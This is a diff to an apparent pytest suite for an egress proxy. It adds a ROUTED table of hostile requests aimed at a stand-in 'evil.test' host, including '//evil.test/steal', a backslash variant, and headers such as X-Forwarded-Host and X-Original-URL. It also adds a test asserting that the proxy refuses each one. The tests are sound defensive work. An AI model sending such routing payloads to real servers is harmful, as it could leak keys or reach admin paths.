@@ -232,6 +232,20 @@ SMUGGLE32 = {
 }
 
 
+# Requests whose Host and target are the destination's, but that a server may route
+# elsewhere: by a network-path target ("//host/x"), a backslash some servers read as
+# "/", or a header that overrides the host or the path (re-check of session 32).
+ROUTED = {
+    "network-path": ("//evil.test/steal",),
+    "backslash": ("/\\evil.test/steal",),
+    "x-forwarded-host": ("/v1/x", "X-Forwarded-Host: evil.test"),
+    "forwarded": ("/v1/x", "Forwarded: for=10.0.0.1;host=evil.test;proto=https"),
+    "x-original-url": ("/v1/x", "X-Original-URL: /admin/keys"),
+    "x-rewrite-url": ("/v1/x", "X-Rewrite-URL: /admin/keys"),
+    "x-host": ("/v1/x", "X-Host: evil.test"),
+}
+
+
 @pytest.fixture(scope="module")
 def res(hive: HiveProcess) -> dict[str, Any]:
     cases = {
@@ -240,6 +254,7 @@ def res(hive: HiveProcess) -> dict[str, Any]:
         "absolute-https": ("api.test", "api.test", get("https://evil.test/steal", "api.test", KEYED)),
         "absolute-port": ("api.test", "api.test", get("https://evil.test:443/steal", "api.test:443", KEYED)),
         "authority-form": ("api.test", "api.test", get("evil.test:443", "api.test", KEYED)),
+        **{k: ("api.test", "api.test", get(target, "api.test", KEYED, *more)) for k, (target, *more) in ROUTED.items()},
         "spacey": ("api.test", "api.test", get("/v1/spacey", "api.test", "x-spacey: {SPACEY_KEY}")),
         **{k: ("api.test", "api.test", v) for k, v in SMUGGLE32.items()},
         "bighead": ("hang.test", "hang.test", get("/bighead", "hang.test")),
@@ -266,6 +281,23 @@ def test_the_bound_key_reaches_only_the_bound_virtual_host(res: dict[str, Any]) 
     leaked = {case: res[case].get("body", res[case]) for case in ("absolute-http", "absolute-https", "absolute-port", "authority-form")
               if KEY in json.dumps(res[case]) or "evil.test vhost" in res[case].get("body", "")}
     assert not leaked, ("the bound key reached another virtual host", leaked)
+
+
+@pytest.mark.attack("egress.tls-sni-host", ref="RFC 3986 3.3 (no path-absolute starts with '//'); RFC 7239; X-Forwarded-Host, X-Original-URL (trusted-proxy routing)")
+def test_a_target_or_header_a_server_may_route_elsewhere_is_refused(res: dict[str, Any]) -> None:
+    """The re-check of session 32 named what origin-form alone let through, each with the
+    bound key and Host api.test: a network-path target (``//evil.test/steal``, which a
+    framework's redirect or router resolves to evil.test), a backslash (``/\\evil.test``,
+    read as ``//`` by some servers), and the headers by which front ends behind trusted
+    proxies take another host or path (``X-Forwarded-Host``, ``Forwarded: host=``,
+    ``X-Original-URL``, ``X-Rewrite-URL``, ``X-Host``). Safe: each is refused (400) by the
+    proxy, naming why, before anything goes upstream; the plain request still passes."""
+    assert res["origin-form"]["status"] == 200, res["origin-form"]
+    for case in ROUTED:
+        got = res[case]
+        assert got.get("status") == 400, (case, got)
+        assert "evil.test vhost" not in got.get("body", "") and "api.test vhost" not in got.get("body", ""), (case, got)
+        assert "origin-form" in got["body"] or "names another host or path" in got["body"], (case, got)
 
 
 @pytest.mark.attack("secrets.store", ref="issue 16 item 1 (no log line carries a value); h11 LocalProtocolError text")
